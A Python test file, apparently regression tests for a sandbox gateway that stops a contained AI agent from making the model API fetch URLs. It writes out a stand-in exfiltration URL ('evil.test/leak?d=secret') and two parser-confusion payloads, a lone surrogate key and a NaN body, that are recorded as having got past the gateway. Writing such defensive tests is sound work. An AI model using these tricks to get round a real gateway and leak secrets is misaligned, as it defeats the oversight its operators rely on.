"""Attacks on the API wall (issue 37, A1/A2), as a hostile agent in the box would send them to
a real gateway process: bodies that try to make the API reach a URL without
`--allow-api-fetch`, judged by what the stand-in upstream on loopback received; and requests
that try to take the budget past itself, judged by the usage file. What got through on main
is refused here; what held is kept as a regression (docs/decisions.md, "Attacks on the API
wall")."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from flower.testing import FakeAPI
from tests.flowerbox.conftest import GatewayProcess
from tests.flowerbox.test_api_fetch import api, asking, post, url_source

__all__ = ["api"]  # the stand-in upstream fixture, shared with test_api_fetch

Start = Callable[..., GatewayProcess]
EVIL = "https://evil.test/leak?d=secret"


# --- got through on main: forwarded with the real key ------------------------------------

GOT_THROUGH = {
    # Python keeps a lone surrogate; a parser that drops it reads "url".
    "a lone surrogate in a source type": (
        json.dumps(asking(url_source("document", EVIL)))
        .replace('"url"', '"ur\\ud800l"', 1)
        .encode(),
        "lone surrogate",
    ),
    # Not JSON: a lenient parser reads it, a strict one refuses; the gateway guesses neither.
    "NaN": (b'{"model": "claude-sonnet-4-5", "max_tokens": NaN, "messages": []}', "NaN"),
}


@pytest.mark.parametrize("name", sorted(GOT_THROUGH))
def test_what_got_through_is_refused_and_never_forwarded(
    name: str, api: FakeAPI, start_gateway: Start
) -> None:
    body, why = GOT_THROUGH[name]
    gateway = start_gateway(api.url)
    status, message = post(gateway, body)
    assert status in (400, 403) and why in message, (status, message)
    assert api.requests == []
